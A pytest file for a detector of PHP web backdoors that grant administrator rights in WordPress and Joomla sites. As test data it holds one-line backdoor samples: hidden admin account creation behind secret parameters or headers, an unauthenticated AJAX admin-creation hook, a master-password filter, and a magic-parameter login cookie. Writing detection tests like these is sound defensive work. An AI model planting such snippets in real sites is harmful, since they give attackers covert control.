# ruff: noqa: E501 — one page, one line.
"""Pages that give an administrator's rights away."""

import pytest

from hemostat.detect.content.webscripts.administrators import grants


@pytest.mark.parametrize(
    ("page", "way"),
    [
        (
            "if ($_GET['k'] == 'go') { $i = wp_create_user('a', 'pa55'); $u = new WP_User($i); $u->set_role('administrator'); }",
            "makes",
        ),
        (
            "$id = wp_insert_user(['user_login' => 'x', 'user_pass' => 'P@ss', 'role' => 'administrator']);",
            "makes",
        ),
        (
            "if (hash('sha256', $p) === 'aa') { $n = wp_create_user($_GET['u'], $_GET['w']); get_user_by('id', $n)->set_role('administrator'); }",
            "makes",
        ),
        (
            "add_action('wp_ajax_nopriv_mk', function () { $id = wp_create_user($_POST['u'], $_POST['p']); (new WP_User($id))->set_role('administrator'); });",
            "makes",
        ),
        (
            "if ($_SERVER['HTTP_X_T'] === 'abc') { $u = get_user_by('id', 2); $u->add_role('administrator'); }",
            "makes",
        ),
        (
            "if ($_GET['k'] == 'zz') { $d->setQuery(\"INSERT INTO #__users (username) VALUES ('s')\"); $d->setQuery('INSERT INTO #__user_usergroup_map VALUES (9, 8)'); }",
            "makes",
        ),
        (
            "if (isset($_GET['l']) && $_GET['l'] == '7f') { $u = get_users(['role' => 'administrator'])[0]; wp_set_auth_cookie($u->ID); }",
            "lets-in",
        ),
        (
            "add_filter('check_password', function ($ok, $p) { return $p === 'x0x0' ? true : $ok; }, 10, 2);",
            "lets-in",
        ),
        ("update_option('default_role', 'administrator');", "anybody"),
    ],
)
def test_what_nobody_is_asked_for_is_seen(page: str, way: str) -> None:
    assert [each.way for each in grants(page)][:1] == [way]


@pytest.mark.parametrize(
    "page",
    [
        "function wp_install($n) { $id = wp_create_user($n, $pw, $e); $u = new WP_User($id); $u->set_role('administrator'); }",
        "WP_CLI::add_command('mk', function ($a) { $id = wp_create_user($a[0], 'start'); (new WP_User($id))->set_role('administrator'); });",
        "$id = wp_create_user($_POST['u'], $_POST['p']); (new WP_User($id))->set_role('subscriber');",
        "add_action('pre_user_query', function ($q) { $q->query_where .= $wpdb->prepare(' AND user_login LIKE %s', $s); });",
        "$query_where .= \" AND user_login NOT IN ( '$login__not_in' )\";",
        "$u = get_users(['meta_value' => $token]); wp_set_auth_cookie($u[0]->ID);",
    ],
)
def test_installers_forms_and_single_sign_on_are_not(page: str) -> None:
    assert not list(grants(page))
